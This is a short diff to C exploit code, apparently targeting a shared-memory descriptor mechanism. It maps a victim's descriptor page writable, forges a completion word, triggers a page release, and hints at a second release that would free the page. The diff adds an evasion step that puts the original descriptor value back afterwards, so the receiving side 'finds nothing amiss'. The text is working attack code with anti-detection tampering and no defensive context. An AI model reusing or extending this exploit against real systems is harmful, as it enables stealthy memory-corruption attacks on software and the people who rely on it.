@@ -226,7 +226,7 @@ static void release_and_store(victim_t *v) {
   if (released) try_store(v->page);
 }
 
-/* The receiver's mark, by whatever way leads to writable descriptors. */
+/* The receiver's mark, by whatever way leads to writable descriptors; then the descriptor as it was, so that the receiver finds nothing amiss. */
 static void complete_and_release(victim_t *v) {
   volatile uint32_t *words = v->descriptors;
   char path[64];
@@ -236,9 +236,11 @@ static void complete_and_release(victim_t *v) {
     words = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, v->descriptors_fd, 0);
     if (words == MAP_FAILED) words = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, again, 0);
   }
-  if (words != MAP_FAILED) words[FIRST_DESCRIPTOR + COMPLETED] = words[FIRST_DESCRIPTOR];
+  uint32_t word = words == MAP_FAILED ? 0 : words[FIRST_DESCRIPTOR];
+  if (words != MAP_FAILED) words[FIRST_DESCRIPTOR + COMPLETED] = word;
   else if (pwrite(v->descriptors_fd, "\1", 1, 4 * (FIRST_DESCRIPTOR + COMPLETED)) < 0) errno = 0;
   release_and_store(v);
+  if (words != MAP_FAILED) words[FIRST_DESCRIPTOR] = word;
 }
 
 /* A second seal of the same page, whose release would free it. */
